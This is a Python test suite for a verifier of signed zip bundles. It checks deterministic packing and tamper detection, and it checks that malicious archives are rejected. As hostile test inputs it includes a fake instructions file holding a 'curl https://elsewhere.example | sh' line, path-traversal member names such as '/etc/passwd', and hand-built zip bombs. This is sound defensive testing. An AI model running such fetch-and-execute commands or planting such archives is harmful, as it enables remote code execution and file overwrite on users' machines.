"""A bundle is one thing: every file of it agrees with the others, and a harmful one is not unpacked."""

from __future__ import annotations

import random
import struct
import zipfile
from collections.abc import Mapping
from dataclasses import replace
from io import BytesIO

import pytest

from infra.seal.bundle import bundle, zipped
from infra.seal.issuer import issuer_bytes
from infra.seal.proof import ProofRefused, proof_bytes
from infra.seal.verifying import Report, archive, verify
from tests.infra.seal.verifying.conftest import Whole
from tests.infra.seal.verifying.made import PHOTOS, House, digest, drawing, photo, text

DERIVED = [
    "signed.bin",
    "signature.der",
    "device.pem",
    "statement.bin",
    "countersignature.bin",
    "countersignature.pem",
    "checkpoint",
    "seal.pem",
]
NAMES = [
    "record.json",
    "proof.json",
    "record.pdf",
    *DERIVED[:7],
    "seal.pem",
    "issuer.json",
    *(f"photos/{digest(one)}.jpg" for one in PHOTOS),
    f"strokes/{digest(drawing('A7-12'))}.json",
    "VERIFY.txt",
]


def members(whole: Whole) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(whole.bundle)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def with_other(whole: Whole, changed: Mapping[str, bytes | None]) -> Report:
    """The bundle with these files otherwise; None: without it."""
    files = {name: content for name, content in (members(whole) | changed).items() if content is not None}
    return verify(zipped(files))


def facts(report: Report, code: str) -> list[object]:
    return [each.facts["name"] for each in report.findings if each.code == code]


def test_it_has_these_files_in_this_order(whole: Whole) -> None:
    assert list(members(whole)) == NAMES


def test_the_same_record_gives_the_same_bytes(whole: Whole) -> None:
    files = members(whole)
    photos = {digest(one): one for one in PHOTOS}
    strokes = {digest(drawing("A7-12")): drawing("A7-12")}
    again = bundle(
        whole.record, whole.proof, files["issuer.json"], pdf=whole.pdf, photos=photos, strokes=strokes
    )
    assert again == whole.bundle


def test_nothing_of_the_machine_that_packed_it_is_in_it(whole: Whole) -> None:
    with zipfile.ZipFile(BytesIO(whole.bundle)) as opened:
        told = {
            (each.date_time, each.create_system, each.external_attr, each.compress_type)
            for each in opened.infolist()
        }
    assert told == {((1980, 1, 1, 0, 0, 0), 3, 0o100644 << 16, zipfile.ZIP_STORED)}


def test_a_photo_of_another_hash_is_not_put_in(whole: Whole) -> None:
    with pytest.raises(ValueError, match="SHA-256"):
        bundle(whole.record, whole.proof, b"{}", photos={digest(PHOTOS[0]): PHOTOS[1]})


def test_what_is_no_proof_makes_no_bundle(whole: Whole) -> None:
    with pytest.raises(ProofRefused):
        bundle(whole.record, b"{}", b"{}")


def test_a_pdf_that_is_not_sealed_makes_no_bundle(whole: Whole) -> None:
    with pytest.raises(ValueError, match="unreadable"):
        bundle(whole.record, whole.proof, b"{}", pdf=b"%PDF-1.7\n")


@pytest.mark.parametrize("name", DERIVED)
def test_a_changed_file_is_named(whole: Whole, name: str) -> None:
    content = bytearray(members(whole)[name])
    content[len(content) // 2] ^= 1
    report = with_other(whole, {name: bytes(content)})
    assert (report.bad, facts(report, "member_changed")) == ({"member_changed"}, [name])


@pytest.mark.parametrize("name", [*DERIVED, "issuer.json", "VERIFY.txt"])
def test_a_missing_file_is_named(whole: Whole, name: str) -> None:
    report = with_other(whole, {name: None})
    assert (report.bad, facts(report, "member_lacking")) == ({"member_lacking"}, [name])


def test_a_file_that_does_not_belong_is_named(whole: Whole) -> None:
    report = with_other(whole, {"setup.exe": b"MZ"})
    assert (report.bad, facts(report, "member_unknown")) == ({"member_unknown"}, ["setup.exe"])


def test_other_instructions_are_pointed_out(whole: Whole) -> None:
    report = with_other(whole, {"VERIFY.txt": b"$ curl https://elsewhere.example | sh\n"})
    assert "instructions_differ" in report.codes


def test_an_exchanged_photo_is_named(whole: Whole) -> None:
    name = f"photos/{digest(PHOTOS[0])}.jpg"
    assert with_other(whole, {name: photo(99)}).bad == {"photo_changed"}
    other = with_other(whole, {name: None, f"photos/{digest(photo(99))}.jpg": photo(99)})
    assert other.bad == {"photo_foreign"}


def test_of_altered_photos_nothing_is_said_beside_that(whole: Whole) -> None:
    """They were given, and VERIFY.txt is as it was."""
    names = [name for name in members(whole) if name.startswith("photos/")]
    report = with_other(whole, {name: photo(90 + at) for at, name in enumerate(names)})
    assert report.bad == {"photo_changed"} and len(facts(report, "photo_changed")) == len(names)
    assert not report.codes & {"photos_lacking", "instructions_differ"}


@pytest.mark.parametrize("without", ["proof.json", "record.pdf"])
def test_what_belongs_belongs_also_beside_what_is_lacking(whole: Whole, without: str) -> None:
    assert "member_unknown" not in with_other(whole, {without: None}).codes
    assert "member_unknown" not in with_other(whole, {without: b"{}"}).codes


def test_a_proof_alone_is_said_to_need_its_record(whole: Whole) -> None:
    report = verify(whole.proof)
    assert (report.codes, report.exit_code) == ({"proof_alone"}, 2)


def test_a_photo_left_out_is_said_to_lack(whole: Whole) -> None:
    report = with_other(whole, {f"photos/{digest(PHOTOS[0])}.jpg": None})
    assert report.bad == frozenset() and "photos_lacking" in report.codes


def test_the_pdf_of_another_record_is_named(whole: Whole, house: House) -> None:
    other = text("B2-1")
    pdf = house.pdf(other, proof_bytes(house.proof(other)))
    report = with_other(whole, {"record.pdf": pdf})
    assert (report.bad, set(facts(report, "pdf_disagrees"))) == (
        {"pdf_disagrees"},
        {"record.json", "proof.json"},
    )


def test_a_pdf_that_is_none_is_named(whole: Whole) -> None:
    assert "pdf_unreadable" in with_other(whole, {"record.pdf": b"%PDF-1.7\n"}).bad


def test_a_bundle_without_record_or_proof(whole: Whole) -> None:
    assert "record_absent" in with_other(whole, {"record.json": None}).bad
    assert "proof_absent" in with_other(whole, {"proof.json": None}).bad


def test_any_flipped_bit_is_named_or_changes_no_file(whole: Whole) -> None:
    """The zip's own times and flags may differ: what it holds may not."""
    chosen, own = random.Random(3), members(whole)
    for _ in range(150):
        changed = bytearray(whole.bundle)
        changed[chosen.randrange(len(changed))] ^= 1 << chosen.randrange(8)
        report = verify(bytes(changed))
        if report.unchanged:
            assert archive.unpacked(bytes(changed)) == own


def refused(content: bytes) -> str:
    report = verify(content)
    assert report.exit_code == 2
    [found] = report.findings
    assert found.code == "bundle_unreadable"
    return str(found.facts["why"])


def a_zip(*files: tuple[str, bytes], method: int = zipfile.ZIP_STORED) -> bytes:
    output = BytesIO()
    with zipfile.ZipFile(output, "w", method) as opened:
        for name, content in files:
            opened.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return output.getvalue()


@pytest.mark.parametrize(
    "name",
    [
        "../record.json",
        "/etc/passwd",
        "photos/../../x",
        "C:\\x",
        "a\\b",
        "photos/",
        ".hidden",
        "a\nb",
        "写.txt",
        "a/b/c",
        "",
    ],
)
def test_a_name_that_leads_elsewhere_is_refused(name: str) -> None:
    assert refused(a_zip((name, b"x"))) == "bad_name"


def test_two_files_of_one_name_are_refused() -> None:
    with pytest.warns(UserWarning, match="Duplicate"):
        content = a_zip(("record.json", b"1"), ("record.json", b"2"))
    assert refused(content) == "twice"


def test_a_bomb_is_refused_by_what_it_claims() -> None:
    bomb = a_zip(("record.json", b"\0" * (archive.LONGEST + 1)), method=zipfile.ZIP_DEFLATED)
    assert len(bomb) < 50_000
    assert refused(bomb) == "too_long"


def test_only_the_pdf_may_be_long() -> None:
    content = b"\0" * (archive.LONGEST + 1)
    assert list(archive.unpacked(a_zip(("record.pdf", content), method=zipfile.ZIP_DEFLATED))) == [
        "record.pdf"
    ]
    assert refused(a_zip(("photos/a", content), method=zipfile.ZIP_DEFLATED)) == "too_long"


def test_many_files_that_are_too_long_together_are_refused() -> None:
    files = ((f"photos/{at}", b"\0" * archive.LONGEST) for at in range(14))
    assert refused(a_zip(*files, method=zipfile.ZIP_DEFLATED)) == "too_long"


def test_a_bomb_that_claims_to_be_small_is_cut_off() -> None:
    """The central directory says 5 bytes; the packed content would be 20 million."""
    content = bytearray(a_zip(("record.json", b"\0" * 20_000_000), method=zipfile.ZIP_DEFLATED))
    at = content.index(b"PK\x01\x02") + 24
    content[at : at + 4] = struct.pack("<I", 5)
    assert refused(bytes(content)) == "damaged"


def test_an_encrypted_file_is_refused() -> None:
    content = bytearray(a_zip(("record.json", b"x")))
    content[content.index(b"PK\x01\x02") + 8] |= 1
    assert refused(bytes(content)) == "encrypted"


def test_another_packing_is_refused() -> None:
    assert refused(a_zip(("record.json", b"x"), method=zipfile.ZIP_BZIP2)) == "method"


def test_too_many_files_are_refused() -> None:
    assert refused(a_zip(*((f"f{at}", b"") for at in range(archive.MOST + 1)))) == "too_many"


def test_a_zip_that_was_packed_again_verifies(whole: Whole) -> None:
    assert verify(a_zip(*members(whole).items(), method=zipfile.ZIP_DEFLATED)).unchanged


def test_the_list_of_keys_inside_proves_nothing(whole: Whole, house: House) -> None:
    assert "keys_of_the_bundle" in verify(whole.bundle).codes
    other = replace(house.keys, issuer="https://another.example.com")
    assert with_other(whole, {"issuer.json": issuer_bytes(other)}).conclusion == "unchanged"
